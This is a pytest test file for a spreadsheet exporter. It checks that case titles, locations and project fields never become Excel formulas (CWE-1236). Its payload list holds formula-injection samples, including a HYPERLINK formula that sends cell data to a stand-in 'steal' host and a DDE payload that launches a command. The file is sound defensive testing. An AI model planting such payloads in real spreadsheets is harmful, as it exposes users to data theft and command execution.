"""Record text never becomes a spreadsheet formula (CWE-1236).

Payloads of every kind go through the real commands into every workbook the
project writes (project ledger, company handbook, review checklist); openpyxl
reads the cells back: each payload is a string cell holding exactly the text
written, and no cell anywhere is a formula.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from click.testing import CliRunner
from conftest import make_root
from openpyxl import Workbook, load_workbook

from generator.cli import main
from generator.render.xlsx import set_text

PAYLOADS = [
    '=HYPERLINK("http://example.invalid/steal?d="&A1,"点击")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "＝1+1",
    "#N/A",
    "=",
]
# Text fields are read without surrounding whitespace (the schema strips them), so this is
# what each payload is in the catalogue, and so in a workbook.
TEXTS = [payload.strip() for payload in PAYLOADS]
CASE = "cases/LAHF/phase-1/LAHF-001.yaml"
DEFECT = "defects/design/D-AC-001.yaml"


def quoted(text: str) -> str:
    """A YAML double-quoted scalar (JSON's escapes are YAML's)."""
    return json.dumps(text, ensure_ascii=False)


@pytest.fixture(scope="module")
def root(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """One case per payload (in its title and location), and payloads in the defect type's
    title and measures and in the project's name, city and phase name."""
    root = make_root(tmp_path_factory.mktemp("payloads"))
    case = (root / CASE).read_text(encoding="utf-8").split("photos:")[0]
    (root / CASE).unlink()
    for number, payload in enumerate(PAYLOADS, 1):
        text = case.replace("id: LAHF-001", f"id: LAHF-{number:03}")
        text = text.replace("title: 5栋空调百叶过密，外机高温停机", f"title: {quoted(payload)}")
        text = text.replace('location: "5栋1单元0301"', f"location: {quoted(payload)}")
        (root / f"cases/LAHF/phase-1/LAHF-{number:03}.yaml").write_text(text, encoding="utf-8")
    defect = (root / DEFECT).read_text(encoding="utf-8")
    defect = defect.replace("title: 空调外机百叶过密，外机散热不良停机", f"title: {quoted(PAYLOADS[0])}")
    measures = "".join(f"    - {quoted(p)}\n" for p in PAYLOADS)
    defect = defect.replace("  设计准备阶段:\n", "  设计准备阶段:\n" + measures)
    (root / DEFECT).write_text(defect, encoding="utf-8")
    project = (root / "cases/LAHF/project.yaml").read_text(encoding="utf-8")
    project = project.replace("name: 澜岸华府", f"name: {quoted(PAYLOADS[1])}")
    project = project.replace("city: 杭州", f"city: {quoted(PAYLOADS[4])}")
    project = project.replace("name: 一期", f"name: {quoted(PAYLOADS[2])}")
    (root / "cases/LAHF/project.yaml").write_text(project, encoding="utf-8")
    result = CliRunner().invoke(main, ["validate", str(root)])
    assert result.exit_code == 0, result.output
    return root


def workbook(*args: str, out: Path) -> Workbook:
    result = CliRunner().invoke(main, [*args, "--format", "xlsx", "--out", str(out)])
    assert result.exit_code == 0, result.output
    (path,) = out.glob("*.xlsx")
    return load_workbook(path)


def assert_text_only(book: Workbook, expected: list[str]) -> None:
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    strings = {cell.value for cell in cells if cell.data_type == "s"}
    missing = [payload for payload in expected if payload not in strings]
    assert missing == []
    assert all(c.data_type == "s" for c in cells if isinstance(c.value, str))


def test_project_ledger(root: Path, tmp_path: Path) -> None:
    book = workbook("project", "LAHF", str(root), "--draft", out=tmp_path)
    assert_text_only(book, TEXTS)  # case titles and locations
    titles = [row[1] for row in book.worksheets[0].iter_rows(min_row=2, values_only=True)]
    assert sorted(titles) == sorted(TEXTS)


def test_company_handbook(root: Path, tmp_path: Path) -> None:
    book = workbook("company", str(root), out=tmp_path)
    assert_text_only(book, [*TEXTS, TEXTS[1], TEXTS[4]])  # and the project's name and city


def test_review_checklist(root: Path, tmp_path: Path) -> None:
    book = workbook("review", "--stage", "design", str(root), out=tmp_path)
    assert_text_only(book, TEXTS)  # each measure is a check item of its own


def test_set_text_keeps_the_text_and_shows_unstorable_characters(tmp_path: Path) -> None:
    """The one place every workbook writer goes through, here with a normal (not write-only)
    workbook too; XML 1.0 cannot hold U+000B at all, so it is shown as its control picture."""
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    for row, payload in enumerate(PAYLOADS, 1):
        set_text(sheet.cell(row, 1), payload)
    set_text(sheet.cell(len(PAYLOADS) + 1, 1), "第\x0b一行")
    set_text(sheet.cell(len(PAYLOADS) + 2, 1), "长" * 40_000)
    book.save(tmp_path / "book.xlsx")
    read = load_workbook(tmp_path / "book.xlsx").active
    assert read is not None
    assert [(c.value, c.data_type) for (c,) in read.iter_rows(max_row=len(PAYLOADS))] == [(p, "s") for p in PAYLOADS]
    assert read.cell(len(PAYLOADS) + 1, 1).value == "第\u240b一行"
    long = read.cell(len(PAYLOADS) + 2, 1).value
    assert isinstance(long, str) and len(long) == 32767
    assert long.startswith("长" * 32000) and long.endswith("已截断 / cut at Excel's cell limit）")


def test_ledger_export(root: Path, tmp_path: Path) -> None:
    """The export streams its cells with XlsxWriter, through write_text; the same payloads come
    back as the same text, and importing them back changes no file."""
    out = tmp_path / "ledger.xlsx"
    result = CliRunner().invoke(main, ["export", str(root), "--out", str(out)])
    assert result.exit_code == 0, result.output
    book = load_workbook(out)
    assert_text_only(book, [*TEXTS, TEXTS[1], TEXTS[4]])
    titles = [row[3] for row in book["案例"].iter_rows(min_row=3, values_only=True)]
    assert sorted(titles) == sorted(TEXTS)
    before = {p: p.read_bytes() for p in root.rglob("*.yaml")}
    result = CliRunner().invoke(main, ["import", str(out), str(root), "--update"])
    assert result.exit_code == 0, result.output
    assert {p: p.read_bytes() for p in root.rglob("*.yaml")} == before


def test_write_text_keeps_the_text_and_says_where_it_cut(tmp_path: Path) -> None:
    """write_text is set_text for XlsxWriter sheets: the same text, control pictures and cut; an
    emoji counts as two of Excel's 32,767 units, so the cut still says so instead of losing the note."""
    import xlsxwriter
    from python_calamine import CalamineWorkbook

    from generator.render.xlsx import write_text

    path = tmp_path / "streamed.xlsx"
    book = xlsxwriter.Workbook(str(path), {"constant_memory": True})
    sheet = book.add_worksheet("s")
    texts = [*PAYLOADS, "第\x0b一行", "长" * 40_000, "😀" * 20_000]
    for row, text in enumerate(texts):
        write_text(sheet, row, 0, text)
    book.close()
    # Read as import reads it (calamine decodes Excel's _x000D_ for a carriage return; openpyxl does not).
    read = [r[0] for r in CalamineWorkbook.from_path(str(path)).get_sheet_by_name("s").to_python()]
    assert read[:len(PAYLOADS)] == PAYLOADS and read[len(PAYLOADS)] == "第\u240b一行"
    long, emoji = read[-2], read[-1]
    assert len(long) == 32767 and long.startswith("长" * 32000)
    assert long.endswith("已截断 / cut at Excel's cell limit）")
    assert emoji.startswith("😀" * 16000) and emoji.endswith("已截断 / cut at Excel's cell limit）")
    assert len(emoji.encode("utf-16-le")) // 2 <= 32767
    assert [c.data_type for (c,) in load_workbook(path)["s"].iter_rows()] == ["s"] * len(texts)


def test_export_keeps_text_that_looks_like_an_excel_escape(tmp_path: Path) -> None:
    """Excel reads `_x0041_` in a cell's XML as "A"; the export escapes it, so the import (which
    decodes as Excel does) gets the title back as written and changes nothing."""
    root = make_root(tmp_path)
    title = "百叶_x0041_编号_x000D_"
    (root / CASE).write_text((root / CASE).read_text(encoding="utf-8").replace(
        "title: 5栋空调百叶过密，外机高温停机", f"title: {quoted(title)}"), encoding="utf-8")
    out = tmp_path / "ledger.xlsx"
    assert CliRunner().invoke(main, ["export", str(root), "--out", str(out)]).exit_code == 0
    from python_calamine import CalamineWorkbook

    rows = CalamineWorkbook.from_path(str(out)).get_sheet_by_name("案例").to_python()
    assert rows[2][3] == title
    before = (root / CASE).read_bytes()
    result = CliRunner().invoke(main, ["import", str(out), str(root), "--update"])
    assert result.exit_code == 0, result.output
    assert (root / CASE).read_bytes() == before
